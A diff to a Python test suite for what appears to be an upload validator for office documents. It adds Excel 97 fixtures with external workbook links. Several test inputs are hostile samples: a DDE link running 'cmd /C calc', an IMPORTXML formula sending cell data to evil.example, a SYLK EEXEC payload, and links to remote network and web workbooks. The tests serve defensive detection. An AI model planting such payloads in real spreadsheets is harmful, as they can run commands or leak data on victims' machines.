@@ -140,12 +140,17 @@ DOCUMENTS = {
 WORD_97 = {"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 64}
 
 
-def biff_workbook(*sheets: tuple[str, int]) -> bytes:
-    """An Excel 97-2003 Workbook stream's globals: BOF, a BOUNDSHEET per (name, type), EOF."""
+def biff_workbook(*sheets: tuple[str, int], links: tuple = ()) -> bytes:
+    """An Excel 97-2003 Workbook stream's globals: BOF, a BOUNDSHEET per (name, type), a
+    SUPBOOK per link (its number of sheets and its path, None for the workbook itself), EOF."""
     records = struct.pack("<HH", 0x0809, 16) + b"\0" * 16
     for name, kind in sheets:
         data = b"\0\0\0\0" + bytes([0, kind]) + bytes([len(name), 0]) + name.encode("latin-1")
         records += struct.pack("<HH", 0x0085, len(data)) + data
+    for sheet_count, path in links:
+        data = (struct.pack("<HH", sheet_count, 0x0401) if path is None
+                else struct.pack("<HHB", sheet_count, len(path), 1) + path.encode("utf-16-le"))
+        records += struct.pack("<HH", 0x01AE, len(data)) + data
     return records + struct.pack("<HH", 0x000A, 0)
 
 
@@ -193,6 +198,7 @@ DOCUMENTS.update({
     "dokumen/formulir-aduan.docx": ooxml({"word/media/image1.xml": "<ax/>"},
                                          '<Override PartName="/word/media/image1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
     "dokumen/anggaran-lama.xls": ole_file({"Book": biff_workbook(("Anggaran", 0), ("Auto_Open", 1))}),
+    "dokumen/rekap-realisasi.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), links=((0, "cmd\x03 /C calc"),))}),
     "dokumen/rincian-kegiatan.docx": ooxml({"word/embeddings/oleObject1.bin": ole_file({"Package": XLSM_PACKAGE.ljust(4096, b"\0")})}),
     "dokumen/rekap-terkunci.xlsx": ole_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x10" * 64}),
     "dokumen/surat-undangan-2.docx": ooxml({"word/afchunk.rtf": r"{\rtf1 {\object\objautlink\objupdate}}",
@@ -679,7 +685,8 @@ def test_office_97_files_and_embedded_objects_without_macros_are_published(site)
 
     plain = {
         "surat.doc": ole_file(WORD_97),
-        "rekap.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), ("Grafik", 2))}),
+        "rekap.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), ("Grafik", 2), links=(
+            (3, None), (2, "\x01\x01Canggaran\x03rekap-2025.xls"), (1, "rincian.xls")))}),
         "lampiran.docx": zip_bytes({**WORD, "word/document.xml": "<w/>",
                                     "word/embeddings/oleObject1.bin": ole_file({"Workbook": biff_workbook(("Data", 0))}),
                                     "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes(
@@ -791,6 +798,12 @@ def split_sst(*strings: str) -> bytes:
      "membuat tautan"),
     ("impor.csv", b'kode,nilai\n1,=IMPORTXML("https://evil.example/?"&A1;"//a")\n', "memuat alamat lain"),
     ("sylk-bom.csv", b"\xef\xbb\xbfID;P\nC;X1;Y1;EEXEC(\"calc\")\nE\n", "isinya bukan berkas CSV"),
+    ("dde-sel.xls", ole_file({"Workbook": biff_workbook(("Rekap", 0), links=((0, "cmd\x03 /C calc"),))}), "tautan DDE"),
+    ("tautan-jaringan.xls", ole_file({"Workbook": biff_workbook(
+        ("Rekap", 0), links=((1, "\x01\x01@arsip-bpkad\x03anggaran\x03apbd.xls"),))}),
+     "memuat templat, objek atau data dari //arsip-bpkad/anggaran/apbd.xls"),
+    ("tautan-web.xls", ole_file({"Workbook": biff_workbook(
+        ("Rekap", 0), links=((1, "\x01\x05\x1chttps://evil.example/data.xls"),))}), "dari https://evil.example/data.xls"),
     ("berputar.doc", looping_chain(), "rusak atau tidak dapat dibaca"),
     ("bersarang.docx", nested_docx(6), "bersarang terlalu dalam"),
 ])
